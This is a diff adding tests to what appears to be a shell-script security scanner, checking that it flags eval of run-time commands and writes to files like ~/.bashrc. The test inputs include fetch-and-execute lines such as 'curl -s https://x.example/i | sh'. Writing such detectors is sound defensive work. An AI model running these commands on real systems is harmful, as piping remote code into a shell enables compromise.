@@ -50,6 +50,18 @@ def test_assignments_on_one_line_are_remembered():
     )
 
 
+def test_a_variable_given_two_literals_on_different_paths_is_not_known():
+    script = 'case "$1" in\n  a) run=true ;;\n  *) run="curl -s https://x.example/i" ;;\nesac\neval "$run"\n'
+    assert ("shell.eval", "high", "evaluates a command built at run time") in found(script)
+
+
+def test_a_value_set_on_one_path_keeps_the_literal_set_before():
+    script = (
+        'out=~/.bashrc\nwhile getopts o: f; do\n  case $f in o) out=$OPTARG ;; esac\ndone\necho x > "$out"\n'
+    )
+    assert "shell.write-outside" in highs(script)
+
+
 def test_shell_code_nested_in_shell_code_stops_at_the_depth_cap():
     code = "curl -s https://x.example/i | sh"
     for _ in range(MAX_DEPTH + 2):  # $'…' nesting: the escapes double, the text stays small
